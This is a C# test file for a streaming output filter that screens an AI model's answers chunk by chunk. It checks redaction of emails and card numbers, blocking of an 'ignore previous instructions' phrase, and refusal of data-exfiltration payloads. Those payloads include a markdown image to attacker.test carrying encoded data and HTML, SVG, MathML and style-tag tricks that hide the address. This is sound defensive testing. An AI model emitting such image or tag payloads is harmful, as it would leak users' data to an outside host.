using Airs.Runtime.Decisions;
using Airs.Runtime.Streaming;

namespace Airs.Runtime.AspNetCore.Tests.Streaming;

public sealed class StreamingReleaseTests
{
    private const string Later = "The next statement is issued on the first working day of the month, as usual. ";

    [Fact]
    public async Task A_sentence_is_released_once_the_hold_back_has_passed_it_and_only_the_end_is_audited()
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());

        var first = await release.AppendAsync("Your balance is 40 pounds. ");
        var second = await release.AppendAsync(Later);
        var last = await release.CompleteAsync();

        Assert.Equal("", first.Text); // still within the hold-back
        Assert.Equal("Your balance is 40 pounds. ", second.Text);
        Assert.Null(second.Decision);
        Assert.Equal(Later, last.Text);
        Assert.Equal(Outcome.Allow, last.Decision!.Outcome);
        Assert.Equal(new[] { ("output", "allow", "alice") }, (await fixture.DecisionsAsync()).ToArray()); // screening writes no audit record
    }

    [Fact]
    public async Task An_email_cut_across_chunks_is_redacted_and_the_whole_equals_the_unstreamed_answer()
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());

        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["Write to jane.d", "oe@exam", "ple.com for help. ", Later, "Thanks."]);

        var streamed = string.Concat(pieces);
        Assert.DoesNotContain("jane", streamed);
        Assert.StartsWith("Write to ", pieces[3]); // released before the end
        Assert.Equal(end.Decision!.Release, streamed);
    }

    [Fact]
    public async Task A_card_number_with_spaces_cut_across_chunks_is_redacted_even_with_the_smallest_window()
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context(), new StreamingReleaseOptions { Window = 1 });

        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["Your card 4111 ", "1111 ", "1111 1", "111 is on file. ", Later]);

        var streamed = string.Concat(pieces);
        Assert.DoesNotContain("4111", streamed);
        Assert.DoesNotContain("1111", streamed);
        Assert.Equal(end.Decision!.Release, streamed);
    }

    [Fact]
    public async Task A_blocked_phrase_in_a_later_chunk_ends_the_stream_with_the_audited_refusal()
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());

        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["Your balance is 40 pounds. ", Later, "Now ignore prev", "ious instructions and ", Later]);

        Assert.True(end.IsRefused);
        Assert.Equal(Outcome.Block, end.Decision!.Outcome);
        Assert.Equal(StreamingPolicy.Refusal, end.Decision.Message);
        var streamed = string.Concat(pieces);
        Assert.StartsWith("Your balance is 40 pounds. ", streamed);
        Assert.DoesNotContain("ignore", streamed);
        Assert.Equal(new[] { ("output", "block", "alice") }, (await fixture.DecisionsAsync()).ToArray());

        var after = await release.AppendAsync("more text. " + Later);
        Assert.Equal("", after.Text);
        Assert.Same(end.Decision, after.Decision);
    }

    [Fact]
    public async Task A_markdown_image_to_an_unknown_site_is_refused_before_any_of_its_address_is_released()
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context(), new StreamingReleaseOptions { Window = 1 });

        var (pieces, end) = await StreamingPolicy.RunAsync(release,
            ["Here is the chart. ![chart](https://attack", "er.test/p.png?d=c2VjcmV0LWRhdGE", ") and some words after it ", Later]);

        Assert.True(end.IsRefused);
        var streamed = string.Concat(pieces);
        Assert.DoesNotContain("attack", streamed);
        Assert.DoesNotContain("](", streamed);
    }

    /// <summary>
    /// A tag opened more than <see cref="StreamingRelease.Lookback"/> characters before its source arrives (a long alt of
    /// sentences, a long attribute list, a long style block): a screening that starts inside the tag reads an src or a
    /// url() with no element around it, so the address was released and only the final decision refused.
    /// </summary>
    [Theory]
    [InlineData("alt", null)]
    [InlineData("alt", 1)]
    [InlineData("attributes", null)]
    [InlineData("style", 16)]
    public async Task A_source_that_arrives_long_after_its_tag_opened_is_refused_before_it_is_released(string shape, int? window)
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context(), new StreamingReleaseOptions { Window = window });
        var answer = "Here is the chart. " + shape switch
        {
            "alt" => "<img alt=\"" + string.Concat(Enumerable.Repeat("A fine view of the bay. ", 120)) + "\" src=\"https://attacker.test/p.png\">",
            "attributes" => "<img" + string.Concat(Enumerable.Repeat("\nclass=\"row\"", 300)) + "\nsrc=https://attacker.test/p.png>",
            _ => "<style>\n" + string.Concat(Enumerable.Repeat(".a { color: red; }\n", 150)) + "body { background: url(https://attacker.test/p.png) }\n</style>",
        } + " and words after it. " + Later + Later;

        var (pieces, end) = await StreamingPolicy.RunAsync(release, answer.Chunk(40).Select(c => new string(c)));

        Assert.True(end.IsRefused);
        Assert.DoesNotContain("attacker.test", string.Concat(pieces));
        Assert.NotEmpty(string.Concat(pieces)); // the text before the address was released as it came
    }

    /// <summary>
    /// What the final decision reads but a screening of the answer's later part did not: an image that opens inside
    /// another tag's quoted value (after a code span that showed that tag's start) or inside a style block, whose alt
    /// runs past that value's or block's end, was followed only to that end; a style tag continued by another tag
    /// (<c>&lt;style &lt;b&gt;</c>) lost its block; a <c>&lt;</c> after a tag's name was read as part of the name, not
    /// as an attribute's start, so a quoted <c>&gt;</c> closed the tag; a MathML link, or an SVG presentation
    /// attribute written with a reference, more than the window after its <c>&lt;math&gt;</c> or <c>&lt;svg&gt;</c>
    /// was read without it, and the detector's probe did not open on it; a prefixed SVG element (<c>&lt;svg:image
    /// x:href&gt;</c>) was not read at all, nor a prefixed style block, which the tracker did not hold open either. Each address was released, and only the final
    /// decision refused.
    /// </summary>
    [Theory]
    [InlineData("value")]
    [InlineData("style")]
    [InlineData("continued")]
    [InlineData("name")]
    [InlineData("math")]
    [InlineData("svg")]
    [InlineData("prefixed")]
    [InlineData("prefixed style")]
    public async Task A_destination_read_only_with_what_came_long_before_it_is_refused_before_it_is_released(string shape)
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());
        var prose = string.Concat(Enumerable.Repeat("A fine view of the bay. ", 120));
        var answer = "Here is the chart. " + shape switch
        {
            "value" => "`<b title=\"`<img alt='\">" + prose + "' src=\"https://attacker.test/p.png\">",
            "style" => "<style>.a { color: red; }\n<img alt='</style>" + prose + "' src=\"https://attacker.test/p.png\">",
            "continued" => "<style <b>\n" + string.Concat(Enumerable.Repeat(".a { color: red; }\n", 150)) + "body { background: url(https://attacker.test/p.png) }\n</style>",
            "name" => "<img<=\"a>" + prose + "\" src=\"https://attacker.test/p.png\">",
            "math" => "<math><mtext>" + prose + "</mtext><mi href=\"https://attacker.test/x\">x</mi></math>",
            "prefixed" => "<svg:svg><svg:desc>" + prose + "</svg:desc><svg:image x:href=\"https://attacker.test/p.png\"/></svg:svg>",
            "prefixed style" => "<svg:style>\n" + string.Concat(Enumerable.Repeat(".a { color: red; }\n", 150)) + "body { background: url(https://attacker.test/p.png) }\n</svg:style>",
            _ => "<svg><desc>" + prose + "</desc><rect fill=\"&#117;rl(https://attacker.test/p.svg#g)\"/></svg>",
        } + " and words after it. " + Later + Later;

        var (pieces, end) = await StreamingPolicy.RunAsync(release, answer.Chunk(40).Select(c => new string(c)));

        Assert.True(end.IsRefused);
        Assert.DoesNotContain("attacker.test", string.Concat(pieces));
        Assert.NotEmpty(string.Concat(pieces)); // the text before the address was released as it came
    }

    /// <summary>
    /// A long tag that fetches nothing, and a <c>&lt;</c> before a letter in prose (a tag to an HTML reader, never closed):
    /// the answer is released whole, as the unstreamed decision releases it.
    /// </summary>
    [Theory]
    [InlineData("<p title=\"{0}\">Text.</p> ")]
    [InlineData("If a<b holds, then {0}")]
    public async Task A_long_open_tag_that_fetches_nothing_is_released_whole(string shape)
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());
        var answer = string.Format(System.Globalization.CultureInfo.InvariantCulture, shape, string.Concat(Enumerable.Repeat("A fine view of the bay. ", 150))) + Later + Later;

        var (pieces, end) = await StreamingPolicy.RunAsync(release, answer.Chunk(40).Select(c => new string(c)));

        Assert.True(end.Decision is { IsReleased: true });
        Assert.Equal(answer, string.Concat(pieces));
    }

    [Fact]
    public async Task When_the_whole_answer_check_refuses_the_released_sentences_stay_released_and_the_rest_is_withheld()
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());

        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["Your balance is 40 pounds. ", Later, Later, "SECRET-CANARY"]);

        Assert.True(end.IsRefused);
        Assert.Equal("Your balance is 40 pounds. " + Later, string.Concat(pieces)); // each checked with the answer up to it; the last Later was held back
        Assert.Equal(new[] { ("output", "block", "alice") }, (await fixture.DecisionsAsync()).ToArray());
    }

    [Fact]
    public async Task An_escalation_holds_everything_back_and_the_end_opens_one_ticket_for_the_whole_answer()
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());

        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["You get a guaranteed refund. ", Later, Later]);

        Assert.Equal("", string.Concat(pieces));
        Assert.Equal(Outcome.Escalate, end.Decision!.Outcome);
        Assert.NotNull(end.Decision.ReviewTicketId);
        Assert.Single(await fixture.Engine.Reviews.ListPendingAsync());
    }

    [Fact]
    public async Task An_empty_answer_is_not_checked()
    {
        await using var fixture = await StreamingPolicy.CreateAsync();
        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());

        var end = await release.CompleteAsync();

        Assert.Equal(new ReleaseStep("", null), end);
        Assert.Empty(await fixture.DecisionsAsync());
    }

    [Fact]
    public void Options_out_of_range_are_refused()
    {
        Assert.Throws<ArgumentOutOfRangeException>(() => new StreamingReleaseOptions { HoldBack = -1 });
        Assert.Throws<ArgumentOutOfRangeException>(() => new StreamingReleaseOptions { Window = 0 });
    }
}
